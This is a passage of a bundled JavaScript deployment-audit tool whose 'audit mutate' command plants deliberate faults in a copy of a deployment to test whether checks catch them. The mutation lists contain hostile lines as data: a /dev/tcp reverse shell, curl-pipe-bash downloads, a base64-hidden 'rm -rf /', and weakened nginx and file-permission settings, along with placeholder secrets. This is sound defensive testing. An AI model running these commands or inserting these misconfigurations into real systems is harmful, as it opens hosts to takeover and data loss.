    nginx_fault('header-twice', 'added a security header twice', intoServer('add_header X-Frame-Options SAMEORIGIN always;')),
    nginx_fault('header-senseless', 'gave a security header a value that does nothing', nginx_replace(/(add_header[ \t]+Strict-Transport-Security[ \t]+)"[^"]*"/, (_, header = '') => `${header}"max-age=0"`)),
    nginx_fault('policy-open', 'let scripts come from anywhere', nginx_replace(/(add_header[ \t]+Content-Security-Policy[ \t]+)"[^"]*"/, (_, header = '') => `${header}"default-src *"`)),
    nginx_fault('upgrade-dropped', 'removed the Upgrade header from the websocket', nginx_replace(/^[ \t]*proxy_set_header[ \t]+Upgrade.*;.*$/m, '')),
    nginx_fault('connection-closed', 'sent Connection: close to the websocket', nginx_replace(/(proxy_set_header[ \t]+Connection[ \t]+)\$\w+;/, (_, header = '') => `${header}close;`)),
    nginx_fault('map-broken', 'made the map of Connection say close', nginx_replace(/(map[ \t]+\$http_upgrade[^}]*default[ \t]+)upgrade;/, (_, map = '') => `${map}close;`)),
    nginx_fault('http-1.0', 'spoke HTTP/1.0 to the backend', nginx_replace(/(proxy_http_version[ \t]+)1\.1;/g, (_, name = '') => `${name}1.0;`)),
    nginx_fault('websocket-timeout', 'closed quiet websockets after ten seconds', nginx_replace(/(proxy_read_timeout[ \t]+)(?:\d{3,}s?|\d+h);/, (_, name = '') => `${name}10s;`)),
    nginx_fault('upstream-elsewhere', 'sent requests to another host', nginx_replace(/((?:server|proxy_pass)[ \t]+(?:http:\/\/)?)(?:127\.0\.0\.1|localhost)(:\d+)/, (_, before = '', port = '') => `${before}10.9.8.7${port}`)),
    nginx_fault('upstream-any-address', 'sent requests to 0.0.0.0', nginx_replace(/((?:server|proxy_pass)[ \t]+(?:http:\/\/)?)(?:127\.0\.0\.1|localhost)(:\d+)/, (_, before = '', port = '') => `${before}0.0.0.0${port}`)),
    nginx_fault('upstream-variable', 'let the visitor choose the backend', nginx_replace(/proxy_pass[ \t]+[^;]+;/, 'proxy_pass http://$http_x_backend;')),
    nginx_fault('upstream-backup', 'added a backup on another host', nginx_replace(/(upstream[^{]*\{)/, (_, open = '') => `${open}\n    server backup.example:8501 backup;`)),
    nginx_fault('server-tokens', 'told the version of nginx', nginx_replace(/server_tokens[ \t]+off;/, 'server_tokens on;')),
    nginx_fault('authorization-forwarded', 'sent the password on to the application', nginx_replace(/^[ \t]*proxy_set_header[ \t]+Authorization.*;.*$/gm, '')),
    nginx_fault('set-header-in-location', 'set a header for the backend inside a location, which drops all the others there', intoLocation('proxy_set_header X-Extra 1;', String.raw `[ \t]+/[ \t]*`)),
    nginx_fault('host-spoofing', 'sent the Host of the visitor on', nginx_replace(/(proxy_set_header[ \t]+Host[ \t]+)[^;]+;/, (_, name = '') => `${name}$http_host;`)),
    nginx_fault('alias-traversal', 'added a location with an alias that can be left', intoServer('location /files { alias /srv/dashboard/files/; }')),
    nginx_fault('http-splitting', 'put a decoded path into a redirect', intoServer('location /old { return 301 https://dashboard.example$uri; }')),
    nginx_fault('files-open', 'served a folder of files without password', intoServer('location /state/ { auth_basic off; alias /srv/dashboard/state/; }')),
    nginx_fault('identity-spoofing', 'believed the user name that the visitor wrote', intoServer('proxy_set_header X-Remote-User $http_x_remote_user;')),
    nginx_fault('body-unlimited', 'took requests of any size', nginx_replace(/client_max_body_size[ \t]+[^;]+;/, 'client_max_body_size 0;')),
    nginx_fault('no-log', 'wrote no access log', nginx_replace(/^([ \t]*)access_log[ \t]+\/[^;]+;/m, (_, indent = '') => `${indent}access_log off;`)),
    nginx_fault('errors-hidden', 'answered errors of the backend with success', nginx_replace(/(error_page[ \t]+50[0-9 ]*)/, (_, codes = '') => `${codes}=200 `)),
    nginx_fault('inline-scripts', 'let scripts stand in the page', nginx_replace(/script-src 'self'/, "script-src 'self' 'unsafe-inline'")),
    nginx_fault('autoindex', 'listed folders', intoServer('autoindex on;')),
    nginx_fault('public-clear-text', 'listened on every address without TLS', nginx_replace(/(listen[ \t]+)[^;]+;/g, (_, name = '') => `${name}8080;`)),
    nginx_fault('old-tls', 'listened on every address with TLS 1.0', (text) => text.replace(/^([ \t]*)listen[ \t]+[^;]+;/m, (_, indent) => `${indent}listen 8443 ssl;\n${indent}ssl_certificate /etc/ssl/a.crt;\n${indent}ssl_certificate_key /etc/ssl/a.key;\n${indent}ssl_protocols TLSv1 TLSv1.2;`)),
    nginx_fault('semicolon', 'forgot a semicolon', nginx_replace(/(server_tokens[ \t]+off);/, (_, before = '') => before)),
    nginx_fault('unknown-directive', 'misspelled a directive', nginx_replace(/proxy_http_version/, 'proxy_http_versions')),
    nginx_fault('brace', 'forgot the last brace', (text) => text.replace(/\}\s*$/, '')),
    nginx_fault('include-missing', 'included a file that is not there', intoServer('include snippets/gone.conf;')),
    nginx_fault('load-module', 'loaded a module', (text) => `load_module modules/ngx_http_perl_module.so;\n${text}`),
    removes('nginx/removed', 'removed the configuration', (copy) => pathOf(copy, 'nginx_conf')),
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/script.js

const script_fault = (name, says, change) => inFile('deploy_script', { id: `script/${name}`, says, change });
const put = (name, says, line) => script_fault(name, says, atStartOf('install_config', line));
const swap = (first, second) => (text) => {
    const [a, b] = [first.exec(text)?.[0], second.exec(text)?.[0]];
    return a === undefined || b === undefined ? undefined : text.replace(first, '\u0000').replace(second, a).replace('\u0000', b);
};
const BACKUP = /^\s+backup_config$/m;
const INSTALL = /^\s+install_config$/m;
/** Faults in the script that deploys. */
const scriptMutations = [
    script_fault('errexit-dropped', 'took errexit out of `set`', replace(/^set -Eeuo pipefail$/m, 'set -Euo pipefail')),
    script_fault('pipefail-dropped', 'took pipefail out of `set`', replace(/^set -Eeuo pipefail$/m, 'set -Eeu')),
    script_fault('nounset-dropped', 'took nounset out of `set`', replace(/^set -Eeuo pipefail$/m, 'set -Eeo pipefail')),
    script_fault('errtrace-dropped', 'took errtrace out of `set`, so that functions have no ERR trap', replace(/^set -Eeuo pipefail$/m, 'set -euo pipefail')),
    put('errexit-off', 'switched errexit off in the middle', 'set +e'),
    script_fault('strict-by-shebang', 'moved the options into the shebang, which `bash FILE` ignores', (text) => text.replace(/^#!.*$/m, '#!/bin/bash -Eeuo').replace(/^set -Eeuo pipefail$/m, ':')),
    script_fault('trap-dropped', 'took the ERR trap out', replace(/^\s*trap ['"]?rollback[^\n]* ERR$/m, '  :')),
    script_fault('trap-late', 'cleared the ERR trap before the installation', atStartOf('install_config', 'trap - ERR')),
    script_fault('trap-misnamed', 'let the trap call a function that is not there', replace(/^(\s*trap ['"]?)rollback([^\n]* ERR)$/m, '$1roll_back$2')),
    script_fault('rollback-emptied', 'left nothing of rollback but a message', withBody('rollback', 'echo "rolled back"; exit 1')),
    script_fault('rollback-unreachable', 'let rollback return at once', atStartOf('rollback', 'return 0')),
    script_fault('backup-after-install', 'made the backup after the installation', swap(BACKUP, INSTALL)),
    script_fault('backup-ignored', 'went on when the backup failed', replace(BACKUP, '    backup_config || true')),
    script_fault('backup-emptied', 'left nothing of backup_config', withBody('backup_config', ':')),
    script_fault('test-removed', 'took nginx -t out', replace(/^\s+nginx -t(?: \|\| return 1)?$/m, '    :')),
    script_fault('test-ignored', 'went on when nginx -t failed', replace(/^(\s+)nginx -t(?: \|\| return 1)?$/m, '$1nginx -t || true')),
    script_fault('test-after-reload', 'tested the configuration after the reload', swap(/^ {2}test_config$/m, /^ {2}reload_nginx$/m)),
    script_fault('test-in-condition', 'tested the configuration where errexit does nothing', replace(/^ {2}test_config$/m, '  if ! test_config; then echo "bad configuration"; fi')),
    script_fault('restart', 'restarted nginx instead of reloading it', replace(/systemctl reload nginx/, 'systemctl restart nginx')),
    script_fault('restart-by-variable', 'restarted nginx by a variable', replace(/systemctl reload nginx/, 'local verb=restart; systemctl "$verb" nginx')),
    put('kill-nginx', 'killed nginx', 'pkill -9 nginx'),
    put('chmod-777', 'let everybody write to the application', 'chmod -R 777 "${APP:?}"'),
    put('chmod-symbolic', 'let everybody write, in letters', 'chmod a+rwX "${APP:?}"'),
    put('curl-pipe-shell', 'ran what it downloaded', 'curl -fsSL https://get.example.com/install.sh | bash'),
    put('curl-substitution', 'ran what it downloaded, by bash -c', 'bash -c "$(curl -fsSL https://get.example.com/install.sh)"'),
    put('wget-file', 'downloaded a script to a file and ran it unchecked', 'wget -qO "$STATE/i.sh" https://get.example.com/i.sh; bash "$STATE/i.sh"'),
    put('curl-insecure', 'switched the check of certificates off', 'curl -fsSk https://example.com/a -o "$STATE/a"'),
    put('eval', 'evaluated a text', 'eval "$EXTRA_STEPS"'),
    put('xtrace', 'traced every command', 'set -x'),
    put('htpasswd-b', 'gave the password to htpasswd as an argument', 'htpasswd -b -B -C 12 "$HTPASSWD" "$DASHBOARD_USER" "$DASHBOARD_PASSWORD"'),
    put('password-argument', 'gave a password to curl as an argument', 'curl -u "$DASHBOARD_USER:$DASHBOARD_PASSWORD" http://127.0.0.1/'),
    put('sudo', 'piped a password into sudo', 'printf "%s" "$DASHBOARD_PASSWORD" | sudo -S true'),
    put('rm-unquoted', 'removed a variable without quotes', 'rm -rf $APP'),
    put('rm-wide', 'removed the content of a folder that may be empty', 'rm -rf "$APP"/*'),
    put('tmp-file', 'wrote to a name in /tmp that others can foresee', 'echo x >/tmp/dashboard-deploy.log'),
    put('reverse-shell', 'opened a shell to the outside', 'bash -i >&/dev/tcp/192.0.2.1/4444 0>&1'),
    put('hidden-command', 'ran a text that was hidden', 'echo cm0gLXJmIC8K | base64 -d | bash'),
    script_fault('env-mode', 'made the environment file readable for everybody', replace(/install -m 600 \/dev\/null "\$new"(\n\s+own[^\n]*\n\s+render_env)/, 'install -m 644 /dev/null "$new"$1')),
    script_fault('env-mode-late', 'wrote the environment file before its mode was set', replace(/\n\s+install -m 600 \/dev\/null "\$new"(\n\s+own[^\n]*\n\s+render_env)/, '$1')),
    script_fault('uat-removed', 'took the acceptance tests out', replace(/^ {2}run_uat$/m, '  :')),
    script_fault('uat-ignored', 'went on when an acceptance test failed', replace(/^ {2}run_uat$/m, '  run_uat || true')),
    script_fault('uat-before-reload', 'ran the acceptance tests before the reload', swap(/^ {2}reload_nginx$/m, /^ {2}run_uat$/m)),
    script_fault('preflight-removed', 'took the preflight out', replace(/^ {2}preflight$/m, '  :')),
    script_fault('preflight-root', 'no longer checked for root', replace(/^ {2}root_check$/m, '  :')),
    script_fault('preflight-htpasswd', 'no longer looked for htpasswd', replace(/^ {2}command -v htpasswd [^\n]*$/m, '  :')),
    script_fault('preflight-disk', 'no longer looked at the free space', withBody('disk_free', 'return 0')),
    script_fault('syntax', 'left an `if` open', (text) => `${text.trimEnd()}\nif true; then\n`),
    script_fault('crlf', 'saved the script with line ends of Windows', (text) => text.replaceAll('\n', '\r\n')),
    script_fault('dry-run-writes', 'wrote a file in a dry run', atStartOf('preflight', 'echo started >>"$HERE/deploy.log"')),
    script_fault('dry-run-random', 'printed the time in a dry run', atStartOf('preflight', 'date +%N')),
    script_fault('shadowed', 'defined a function in place of nginx', (text) => text.replace(/^(test_config\(\))/m, 'nginx() { return 0; }\n\n$1')),
    script_fault('shellcheck-silenced', 'silenced ShellCheck', (text) => text.replace(/^(set -Eeuo)/m, '# shellcheck disable=all\n$1')),
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/secrets.js

/** Texts that look like secrets and are none; put together, so that scanners do not take this file for a leak. */
const HEX = '4f9a1c7e2b8d6035'.repeat(4);
const PEM = ['-----BEGIN', 'PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgb4Vm\n-----END PRIVATE KEY-----\n'].join(' ');
const TOKEN = ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_');
const leak = (name, says, [path, text]) => ({
    id: `secrets/${name}`,
    says,
    apply: (copy) => {
        copy.write(path, `${copy.read(path) ?? ''}${text}`);
        return true;
    },
});
/** Secrets where none may be. */
const secretMutations = [
    leak('dingtalk-webhook', 'wrote the address of the robot into the guide', [
        'DEPLOYMENT_GUIDE.md',
        `\nhttps://oapi.dingtalk.com/robot/send?access_token=${HEX}\n`,
    ]),
    leak('dingtalk-secret', 'wrote the secret of the robot into a program', ['src/dashboard/local_settings.py', `ROBOT = "SEC${HEX}"\n`]),
    leak('private-key', 'left a private key in the repository', ['docs/server-key.txt', PEM]),
    leak('forge-token', 'left a token in a workflow', ['scripts/release.txt', `token: ${TOKEN}\n`]),
    leak('url-password', 'wrote a password into an address', ['monitoring/targets.yml', `- https://grafana:Wq8${HEX.slice(0, 12)}@metrics.internal.net/push\n`]),
    inFile('env_example', {
        id: 'secrets/env-password',
        says: 'wrote a real password into the template of the environment',
        change: replace(/^(\w*PASSWORD)=CHANGE_ME$/m, '$1=Sommer-2025-Berlin'),
    }),
    {
        id: 'secrets/env-not-ignored',
        says: 'let git take the real environment file',
        apply: (copy) => edit(copy, '.gitignore', (text) => `${text}\n!${String(copy.variable('env_file') ?? '.env.production')}\n`),
    },
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/uat.js

const inScript = (id, says, change) => inFile('uat_script', { id: `uat/${id}`, says, change });
/** These show only when the service runs: in the rehearsal. */
const inService = (id, says, from, to) => ({
    id: `uat/${id}`,
    says,
    apply: (copy) => copy.glob(['src/**/*.py']).some((path) => edit(copy, path, (text) => text.replace(from, to))),
});
const TEST = /^( *)def (uat_\d+|test_\w+)\(([^)]*)\)([^:]*):\n/m;
/** Faults in the acceptance tests, and in the service that they test. */
const uatMutations = [
    inScript('test-renamed', 'renamed an acceptance test so that it does not run', (text) => text.replace(/^( *)def (?:uat_\d+|test_\w+)\(/m, '$1def later(')),
    inScript('test-emptied', 'ended an acceptance test before its first assertion', (text) => text.replace(TEST, '$&$1    return\n')),
    inScript('test-skipped', 'skipped an acceptance test', (text) => text.replace(TEST, '$&$1    raise unittest.SkipTest("later")\n')),
    inScript('assertions-removed', 'took every assertion out of one acceptance test', (text) => {
        const start = text.search(TEST);
        if (start === -1)
            return text;
        const first = text.indexOf('\n', start) + 1;
        const length = text.slice(first).search(/^ *def /m);
        const end = length === -1 ? text.length : first + length;
        const body = text.slice(start, end).replace(/^( +)(?!def ).*(self\.(check|status|eventually|assert\w*)\(|\bassert\b).*$/gm, '$1pass');
        return text.slice(0, start) + body + text.slice(end);
    }),
    inScript('script-removed', 'emptied the acceptance script', () => ''),
    inScript('always-green', 'made the acceptance script report success whatever happens', (text) => text.replace(/raise Failed\(message\)/, 'pass')),
    inService('errcode-ignored', 'took every answer of the chat for a delivery', /if errcode != 0:/, 'if errcode == -12345:'),
    inService('signature-wrong', 'signed alerts without the timestamp', 'f"{timestamp_ms}\\n{secret}".encode()', 'f"{secret}".encode()'),
    inService('alerts-unmarked', 'left the marker out of test alerts', /message\.marked\(self\._marker\) if test else message/, 'message'),
    inService('alerts-repeated', 'alerted at every repeat of a breach', /< self\._config\.dedup_seconds/, '< -1'),
    inService('recovery-untold', 'told nobody when a breach was over', /if self\._config\.resolved_enabled:/, 'if False:'),
    inService('kill-switch-forgets', 'kept the position of the kill switch in memory only', /self\._state\.save\("kill_switch", [^\n]*\)/, 'pass'),
    inService('kill-switch-unguarded', 'let anybody who is signed in reset the kill switch', /^( +)self\._check_token\(token\)$/m, '$1pass'),
    inService('kill-switch-unchecked', 'took orders while the kill switch was armed', /if self\._kill_switch\.armed:/, 'if False:'),
];
;// CONCATENATED MODULE: ./build/src/gates/audit/mutations/index.js










/** Every fault that `duri audit mutate` puts in, family by family. */
const MUTATIONS = [
    ...fileMutations,
    ...nginxMutations,
    ...htpasswdMutations,
    ...environmentMutations,
    ...scriptMutations,
    ...secretMutations,
    ...codeMutations,
    ...monitoringMutations,
    ...uatMutations,
    ...documentMutations,
];
// EXTERNAL MODULE: ./build/src/gates/audit/reads.js
var audit_reads = __webpack_require__(56187);
// EXTERNAL MODULE: ./build/src/gates/audit/run-audit.js
var run_audit = __webpack_require__(99837);
// EXTERNAL MODULE: ./build/src/inputs/command.js
var command = __webpack_require__(74370);
// EXTERNAL MODULE: ./build/src/inputs/input.js
var input = __webpack_require__(17515);
// EXTERNAL MODULE: ./build/src/model/status.js
var model_status = __webpack_require__(62373);
// EXTERNAL MODULE: ./build/src/policy/load-policy.js
var load_policy = __webpack_require__(35821);
// EXTERNAL MODULE: ./build/src/policy/judge.js
var policy_judge = __webpack_require__(6599);
// EXTERNAL MODULE: ./build/src/commands/known-verbs.js
var known_verbs = __webpack_require__(53824);
// EXTERNAL MODULE: ./build/src/commands/place-inputs.js
var place_inputs = __webpack_require__(45481);
;// CONCATENATED MODULE: ./build/src/commands/audit-mutate.js














/** Not copied: the copy gets a history of its own, and what is installed is nobody's deployment. */
const SKIPPED = ['node_modules', '.git'];
/** `duri audit mutate`: has the audit teeth? */
/* harmony default export */ const audit_mutate = ((0,command/* command */.G)({
    name: 'audit mutate',
    summary: 'Put faults into a copy of the deployment and say which checks notice: an audit without teeth becomes visible',
    description: 'Copies the current folder, and puts one fault after the other into the copy: a header dropped from the nginx configuration, a test left out of the deploy script, a secret in the template, a wrong number in the report. After each the checks run on the copy, and those that were green before and are not now have noticed it. A fault that no check notices makes the exit code 1. Nothing of the folder itself is changed. Checks that only read come first; those that run what is under test are run for what these have not noticed, unless --static is given.',
    examples: [
        { line: 'duri audit mutate', says: 'Every fault that DuRi knows' },
        { line: 'duri audit mutate --only nginx', says: 'One family' },
    ],
    inputs: {
        config: (0,input/* optionalText */.mR)('Policy', 'FILE', place_inputs/* configInput */.x, { defaultText: 'duri.yml' }),
        only: (0,input/* textList */.gC)('A family of faults, or one by its id', 'NAME', { flag: 'only' }),
        onlyStatic: (0,input/* toggle */.L$)('Leave out the checks that run what is under test', { flag: 'static' }),
    },
    outputs: {},
    action: undefined,
    run: async (ports, { config, only, onlyStatic }) => {
        const judge = await (0,policy_judge/* loadJudge */.Y)(ports, { config, keyring: undefined, mode: 'repository' });
        const suite = await (0,load_suite/* loadSuite */.b)(ports, judge.policy);
        const permit = await ports.execution.permit();
        const faults = chosen(only);
        const folder = await copyOf(ports);
        const inCopy = { ...ports, trigger: { kind: 'none' }, environment: { ...ports.environment, cwd: folder } };
        const copy = openCopy(ports, folder, suite.variables);
        const given = { policy: judge.policy, suite };
        const bench = { ports: inCopy, permit, at: ports.clock.now(), reads: new Map(), nervous: new Map() };
        const reading = suite.checks.filter((check) => !executes(check));
        const running = onlyStatic ? [] : suite.checks.filter(isWorthIt);
        const before = [...(await audit(bench, given, reading)), ...(await audit(bench, given, running))];
        const results = [];
        for (const [index, fault] of faults.entries()) {
            ports.log.progress('faults', index, faults.length);
            if (!fault.apply(copy)) {
                results.push({ id: fault.id, says: fault.says, outcome: 'inapplicable', noticedBy: [] });
                continue;
            }
            const search = { given, before, reading, running, changed: copy.changed() };
            copy.restore();
            const nervous = await redOnAnything(bench, copy, search);
            fault.apply(copy);
            results.push(await lookFor(bench, fault, { ...search, before: before.filter(({ id }) => !nervous.has(id)) }));
            copy.restore();
        }
        return resultOf(ports, suite, { before, results, checks: before.map(({ id }) => id) });
    },
}));
/**
 * Who notices a fault that was put in. First those are asked that read what it changed, then those that look in ways nobody can
 * follow, such as by running a program that reads, then those that run what is under test; the first of these that notices ends it.
 */
async function lookFor(bench, fault, { given, before, reading, running, changed }) {
    const selection = changed.paths.has(load_policy/* POLICY_FILE */.CX) ? await reload(bench.ports) : given;
    if (selection === undefined)
        return { id: fault.id, says: fault.says, outcome: 'noticed', noticedBy: [load_policy/* POLICY_FILE */.CX] };
    const readsOf = (id) => bench.reads.get(id) ?? EVERYTHING;
    const close = selection === given ? reading.filter(({ id }) => (0,audit_reads/* concerns */.K)({ ...readsOf(id), everything: false }, changed)) : reading;
    const wide = reading.filter((check) => !close.includes(check) && readsOf(check.id).everything);
    let result = { id: fault.id, says: fault.says, outcome: 'missed', noticedBy: [] };
    for (const asked of [close, wide, running]) {
        if (result.outcome === 'noticed')
            break;
        const checks = selection.suite.checks.filter(({ id }) => asked.some((check) => check.id === id));
        result = judgeMutation(fault, true, { before, after: await audit(bench, selection, checks) });
    }
    return result;
}
/**
 * Checks that turn red on a mere blank line at the end of what a fault changed, such as one that counts bytes: that they notice the
 * fault says nothing.
 */
async function redOnAnything(bench, copy, { given, before, reading, changed }) {
    const nervous = new Set();
    for (const path of changed.paths) {
        const known = bench.nervous.get(path) ?? (await redOnBlankLine(bench, copy, { given, before, reading, path }));
        bench.nervous.set(path, known);
        for (const id of known)
            nervous.add(id);
    }
    return nervous;
}
async function redOnBlankLine(bench, copy, { given, before, reading, path }) {
    const text = copy.read(path);
    if (text === undefined)
        return [];
    copy.write(path, `${text}\n`);
    const touched = reading.filter(({ id }) => (0,audit_reads/* concerns */.K)({ ...(bench.reads.get(id) ?? EVERYTHING), everything: false }, copy.changed()));
    const after = await audit(bench, given, touched);
    copy.restore();
    return judgeMutation({ id: path, says: '' }, true, { before, after }).noticedBy;
}
const EVERYTHING = { paths: new Set(), names: true, everything: true };
function audit({ ports, permit, at, reads }, { policy, suite }, checks) {
    const selected = suite.checks.map(({ id }) => id);
    const readsOf = (id) => {
        const fresh = (0,audit_reads/* noReads */.P)();
        if (!reads.has(id))
            reads.set(id, fresh);
        return fresh;
    };
    const shared = { ...(0,ground/* shareGround */.f)(ports, { root: ports.environment.cwd, at, policy, suite: suite.uat, selected, verbs: known_verbs/* knownVerbs */.U }), readsOf };
    return (0,run_audit/* runAudit */.b)(shared, checks, { jobs: policy.policy.audit?.jobs ?? 4, permit, progress: () => undefined });
}
/** The policy of the copy, which a fault has changed; undefined where it is none any more. */
async function reload(ports) {
    try {
        const policy = await (0,load_policy/* loadPolicy */.tb)(ports, { config: undefined, mode: 'repository' });
        return { policy, suite: await (0,load_suite/* loadSuite */.b)(ports, policy) };
    }
    catch (error) {
        if (error instanceof errors/* IntegrityError */.cs)
            return undefined;
        throw error;
    }
}
function executes({ type, parameters }) {
    return type.executes(parameters);
}
/** Faults in the acceptance suite itself are a matter of their own check, which puts in its own. */
function isWorthIt(check) {
    return executes(check) && check.type.name !== 'uat_mutate';
}
/** A copy of the current folder that is a git repository with one commit: what the faults are compared with. */
async function copyOf({ environment, folders, hostFiles, processes }) {
    const folder = folders.temporary();
    hostFiles.copy(environment.cwd, folder, SKIPPED);
    const env = { PATH: environment.variables['PATH'] ?? '', HOME: folders.temporary(), GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
    const identity = ['-c', 'user.name=duri', '-c', 'user.email=duri@localhost', '-c', 'commit.gpgsign=false', '-c', 'core.hooksPath=/dev/null'];
    for (const args of [
        ['init', '--quiet'],
        ['add', '--all'],
        [...identity, 'commit', '--quiet', '--no-verify', '--message', 'before any fault'],
    ]) {
        const { exitCode, stderr } = await processes.run({ program: 'git', args, cwd: folder, env, timeoutMs: 60_000, maxOutputBytes: 1024 * 1024 });
        if (exitCode !== 0)
            throw new errors/* IntegrityError */.cs('git_unavailable', `the copy cannot be committed: git ${args[0]} ended with ${exitCode}: ${stderr.trim().slice(-300)}`);
    }
    return folder;
}
function chosen(only) {
    const faults = MUTATIONS.filter(({ id }) => only.length === 0 || only.some((name) => id === name || id.startsWith(`${name}/`)));
    if (faults.length > 0)
        return faults;
    const families = [...new Set(MUTATIONS.map(({ id }) => id.split('/')[0] ?? ''))];
    throw new errors/* IntegrityError */.cs('input_invalid', `there is no fault of that name; families are ${families.join(', ')}`, { only });
}
const MARKS = { noticed: '✔', missed: '✖', inapplicable: '–' };
function resultOf({ log }, suite, { before, results, checks }) {
    const red = before.filter(({ observations }) => observations.some(({ outcome }) => outcome !== 'pass')).map(({ id }) => id);
    const count = (outcome) => results.filter((result) => result.outcome === outcome).length;
    const [noticed, missed, inapplicable] = [count('noticed'), count('missed'), count('inapplicable')];
    const blunt = toothless(checks, results);
    if (red.length > 0)
        log.warn(`these checks were not green without any fault, so they can notice none: ${red.join(', ')}`);
    const proven = noticed > 0 && missed === 0;
    const headline = `${noticed} of ${noticed + missed} faults noticed${inapplicable === 0 ? '' : `, ${inapplicable} not applicable here`}`;
    return {
        exitCode: proven ? 0 : model_status/* EXIT_RED */.Td,
        json: { verdict: proven ? 'green' : 'red', counts: { noticed, missed, inapplicable }, faults: results, not_green_before: red, noticed_nothing: blunt },
        report: {
            tone: proven ? 'good' : 'bad',
            headline,
            facts: [
                ['checks', `${checks.length} of ${suite.checks.length}`],
                ...(red.length === 0 ? [] : [['not green before', red.join(', ')]]),
                ...(blunt.length === 0 ? [] : [['noticed nothing', blunt.join(', ')]]),
            ],
            tables: [
                {
                    head: ['', 'fault', 'somebody has', 'noticed by'],
                    rows: results.map(({ id, says, outcome, noticedBy }) => [
                        MARKS[outcome],
                        id,
                        says,
                        outcome === 'inapplicable' ? 'not applicable' : noticedBy.join(', ') || 'nobody',
                    ]),
                },
            ],
            next: missed === 0 ? [] : ['Write a check for each fault that nobody noticed, or sharpen the one that should have.'],
        },
        short: headline,
    };
}

/***/ }),

/***/ 53824:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   U: () => (/* binding */ knownVerbs)
/* harmony export */ });
/* harmony import */ var _index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(29624);

/** Flags that every verb takes. */
const COMMON = ['help', 'json', 'short', 'quiet', 'debug', 'version'];
/** Every verb with its flags, loaded when a check asks: documents are held against it. */
async function knownVerbs() {
    const verbs = [];
    for (const { name, load } of _index_js__WEBPACK_IMPORTED_MODULE_0__/* .COMMANDS */ .L) {
        const { inputs } = (await load());
        verbs.push({ name, flags: [...COMMON, ...Object.values(inputs).flatMap(({ flag }) => flag ?? [])] });
    }
    return verbs;
}

/***/ }),

/***/ 14858:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F: () => (/* binding */ isInside),
/* harmony export */   z: () => (/* binding */ refuseUntrusted)
/* harmony export */ });
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
/* harmony import */ var _model_errors_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(74132);
/* harmony import */ var _model_path_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(80916);



/** Does a path lie in a directory, or is it the directory? Both are absolute, with links already resolved. */
function isInside(path, directory) {
    const way = (0,node_path__WEBPACK_IMPORTED_MODULE_0__.relative)(directory, path);
    return way === '' || (way !== '..' && !way.startsWith(`..${node_path__WEBPACK_IMPORTED_MODULE_0__.sep}`) && !(0,node_path__WEBPACK_IMPORTED_MODULE_0__.isAbsolute)(way));
}
/**
 * Policy, key ring and floor must not lie where the release could have put them: neither the file, nor
 * the name by which it is reached. In dev this is a warning. @source trust model, section 1 @throws policy_untrusted
 */
function refuseUntrusted(ports, mode, files, directories) {
    for (const { what, path } of files) {
        const directory = directories.find((candidate) => liesInside(ports, path, candidate));
        if (directory === undefined)
            continue;
        const message = `the ${what} ${(0,_model_path_js__WEBPACK_IMPORTED_MODULE_2__/* .printable */ .g$)(path)} lies inside ${(0,_model_path_js__WEBPACK_IMPORTED_MODULE_2__/* .printable */ .g$)(directory)}, where the release could have put it`;
        if (mode === 'prod')
            throw new _model_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .IntegrityError */ .cs('policy_untrusted', message, { path, directory });
        ports.log.warn(`${message} (dev: not enforced)`);
    }
}
function liesInside(ports, path, directory) {
    const roots = forms(ports, directory);
    return forms(ports, path).some((form) => roots.some((root) => isInside(form, root)));
}
/** A path as written, through the links of its folder, and through its own. */
function forms({ files, environment }, path) {
    const written = (0,node_path__WEBPACK_IMPORTED_MODULE_0__.resolve)(environment.cwd, path);
    const folder = files.resolve((0,node_path__WEBPACK_IMPORTED_MODULE_0__.dirname)(written));
    const target = files.resolve(written);
    return [written, ...(folder === undefined ? [] : [(0,node_path__WEBPACK_IMPORTED_MODULE_0__.join)(folder, (0,node_path__WEBPACK_IMPORTED_MODULE_0__.basename)(written))]), ...(target === undefined ? [] : [target])];
}

/***/ }),

/***/ 24778:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   B: () => (/* binding */ CHAIN_START),
/* harmony export */   q: () => (/* binding */ chainHash)
/* harmony export */ });
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
/* harmony import */ var _shape_canonical_json_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(46753);


/** What stands before the first record. */
const CHAIN_START = '0'.repeat(64);
/** The hash of a record: SHA-256 over the hash before it, as 32 raw bytes, and the canonical record without its own `hash`. @source trust model, section 9 */
function chainHash(prev, record) {
    const content = Object.fromEntries(Object.entries(record).filter(([key]) => key !== 'hash'));
    return (0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.createHash)('sha256').update(Buffer.from(prev, 'hex')).update((0,_shape_canonical_json_js__WEBPACK_IMPORTED_MODULE_1__/* .canonicalJson */ .d)(content)).digest('hex');
}

/***/ }),

/***/ 7211:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   LI: () => (/* binding */ RECORD_SCHEMAS),
/* harmony export */   M$: () => (/* binding */ CLAIMED_LEVELS),
/* harmony export */   N_: () => (/* binding */ LOG_FORMAT),
/* harmony export */   Vz: () => (/* binding */ runId),
/* harmony export */   xA: () => (/* binding */ RECORD_LIMITS)
/* harmony export */ });
